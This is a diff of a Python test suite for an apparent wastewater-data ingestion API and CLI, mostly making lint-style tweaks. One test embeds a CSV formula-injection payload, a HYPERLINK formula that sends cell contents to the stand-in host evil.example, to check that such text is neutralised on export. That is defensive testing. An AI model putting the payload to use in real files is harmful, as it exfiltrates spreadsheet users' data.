@@ -100,7 +100,7 @@ def pg_url(pg_admin) -> Iterator[str]:
         conn.exec_driver_sql(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
 
 
-def _client(engine: sa.Engine, **settings):  # noqa: ANN202 - (TestClient, token)
+def _client(engine: sa.Engine, **settings):
     from fastapi.testclient import TestClient
 
     from api.config import Settings
@@ -182,7 +182,7 @@ def test_api_and_cli_on_a_closed_port_say_the_database_is_unavailable(tmp_path):
     f = tmp_path / "r.csv"
     f.write_bytes(results_csv(20))
     proc = subprocess.run([WASTEWATER, "--database-url", url, "ingest", str(f)],
-                          capture_output=True, text=True, timeout=120)
+                          check=False, capture_output=True, text=True, timeout=120)
     assert proc.returncode == 3
     out = " ".join((proc.stdout + proc.stderr).split())
     assert "cannot connect" in out and "nothing was written" in out.lower()
@@ -255,7 +255,7 @@ def test_cli_ingest_killed_mid_transaction_leaves_nothing_then_rerun_stores_all(
         if engine.dialect.name == "sqlite":
             with engine.connect() as conn:
                 assert conn.exec_driver_sql("PRAGMA integrity_check").scalar_one() == "ok"
-        rerun = subprocess.run(cmd, capture_output=True, text=True, timeout=300)
+        rerun = subprocess.run(cmd, check=False, capture_output=True, text=True, timeout=300)
         assert rerun.returncode == 0, rerun.stdout[-2000:] + rerun.stderr[-2000:]
         after = counts(engine)
         assert after["results"] == n_rows and after["uploads"] == before["uploads"] + 1
@@ -342,7 +342,7 @@ HOSTILE: dict[str, tuple[bytes, str | None, str]] = {
 
 
 @pytest.fixture(scope="module")
-def hostile_target(tmp_path_factory):  # noqa: ANN201 - (engine, client)
+def hostile_target(tmp_path_factory):
     folder = tmp_path_factory.mktemp("hostile")
     url = f"sqlite:///{folder / 'hostile.db'}"
     upgrade(url)
@@ -381,7 +381,7 @@ def test_hostile_file_is_a_clear_error_and_nothing_is_stored(name, hostile_targe
 
 
 def test_formula_text_is_kept_as_data_and_neutralised_in_csv(hostile_target):
-    engine, client = hostile_target
+    _engine, client = hostile_target
     payload = '=HYPERLINK("http://evil.example/?"&A1;"klicka")'
     quoted = '"' + payload.replace('"', '""') + '"'  # RFC 4180 quoting
     csv_bytes = ("sample_id,site,sample_date,analyte,value,unit,comment,lab\n"
